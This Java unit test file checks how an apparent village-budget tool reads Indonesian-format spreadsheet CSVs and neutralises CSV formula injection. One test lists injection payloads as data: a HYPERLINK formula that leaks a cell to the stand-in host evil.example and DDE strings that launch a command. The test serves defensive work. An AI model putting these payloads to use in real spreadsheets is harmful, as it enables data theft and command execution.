package id.smartkampung.core.budget;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import id.smartkampung.core.csv.CsvDialect;
import id.smartkampung.core.money.Idr;
import id.smartkampung.core.rule.Finding;
import id.smartkampung.core.rule.Rule;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A budget table saved by a spreadsheet set to Indonesian ({@code ;}, decimal comma, byte-order
 * mark; issue 16) is read, or refused saying what to change; descriptions that would run as a
 * formula are written neutralised and read back as they were (issue 19 item 5).
 */
class BudgetCsvDialectTest {
  private static final Village VILLAGE = Village.of("35.10.01.2003", "Sumberagung", "Pesanggaran", "Banyuwangi");

  /** The example budget as such a spreadsheet saves it: BOM, ';', decimal comma, CRLF. */
  static String asSpreadsheetSavesIt(Apbdes budget) {
    StringBuilder sb = new StringBuilder("\uFEFF");
    for (String line : BudgetCsv.toCsv(budget).split("\n")) {
      List<String> cells = new ArrayList<>();
      for (String cell : splitPlain(line)) {
        cells.add(cell.matches("[0-9]+\\.[0-9]{2}") ? cell.replace('.', ',') : cell.contains(";") || cell.contains("\"") ? "\"" + cell.replace("\"", "\"\"") + "\"" : cell);
      }
      sb.append(String.join(";", cells)).append("\r\n");
    }
    return sb.toString();
  }

  @Test
  void aSpreadsheetSavedTableWithSemicolonsDecimalCommaAndBomReadsAsTheSameBudget(@TempDir Path dir) throws IOException {
    Apbdes example = BudgetJson.example();
    Path f = Files.writeString(dir.resolve("apbdes-2025.csv"), asSpreadsheetSavesIt(example), StandardCharsets.UTF_8);
    assertTrue(Files.readString(f).startsWith("\uFEFFsection;account_code;"));
    Apbdes read = BudgetCsv.read(f, example.village(), 2025);
    assertEquals(BudgetCsv.toCsv(example), BudgetCsv.toCsv(read));
    assertTrue(BudgetCsv.readChecked(f, example.village(), 2025).validation().findings().stream().noneMatch(Finding::isError));
  }

  @Test
  void groupedThousandsWithADecimalCommaAreRead() {
    Apbdes b = BudgetCsv.parse("section;account_code;kegiatan_code;description;amount;fund_source\r\npendapatan;4.2.1.01;;Dana Desa;1.012.345.000,50;DDS\r\n", VILLAGE, 2025);
    assertEquals(0, Idr.of(new java.math.BigDecimal("1012345000.50")).compareTo(b.lines().get(0).amount()));
  }

  @Test
  void aDecimalPointInASemicolonTableIsRefusedSayingWhatToWrite() {
    BudgetFormatException e = assertThrows(BudgetFormatException.class, () -> BudgetCsv.parse(
        "section;account_code;kegiatan_code;description;amount;fund_source\npendapatan;4.2.1.01;;Dana Desa;1012345000.00;DDS\npendapatan;4.2.3.01;;ADD;Rp 5.000;ADD\n", VILLAGE, 2025));
    assertEquals(2, e.findings().size(), e.findings().toString());
    Finding f = e.findings().get(0);
    assertEquals(Rule.FORMAT, f.rule());
    assertEquals("line 2, column amount", f.path());
    assertTrue(f.message().contains("';'-separated with decimal comma") && f.message().contains("52200000,00"), f.message());
    assertEquals("line 3, column amount", e.findings().get(1).path());
  }

  @Test
  void aDescriptionThatWouldRunAsAFormulaIsWrittenNeutralisedAndReadBackAsItWas() {
    Apbdes example = BudgetJson.example();
    List<String> payloads = List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik\")", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "'=x", "'Pak RT");
    List<BudgetLine> lines = new ArrayList<>();
    for (int i = 0; i < example.lines().size(); i++) {
      BudgetLine l = example.lines().get(i);
      String d = i < payloads.size() ? payloads.get(i) : l.description();
      lines.add(new BudgetLine(l.section(), l.account(), l.kegiatan(), d, l.amount(), l.fundSource(), null));
    }
    Apbdes budget = Apbdes.of(example.village(), 2025, lines);
    String csv = BudgetCsv.toCsv(budget);
    for (String line : csv.split("\n")) {
      String description = splitPlain(line).get(3);
      assertFalse(!description.isEmpty() && CsvDialect.isFormulaStart(description.charAt(0)), line);
    }
    assertTrue(csv.contains(",'-2+3+cmd|' /C calc'!A0,"), csv);
    assertEquals(budget, BudgetCsv.parse(csv, budget.village(), 2025));
  }

  /** Splits one line of a PLAIN table (RFC 4180, no line breaks in cells). */
  private static List<String> splitPlain(String line) {
    List<String> out = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < line.length(); i++) {
      char c = line.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < line.length() && line.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          cell.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',') {
        out.add(cell.toString());
        cell.setLength(0);
      } else {
        cell.append(c);
      }
    }
    out.add(cell.toString());
    return out;
  }
}
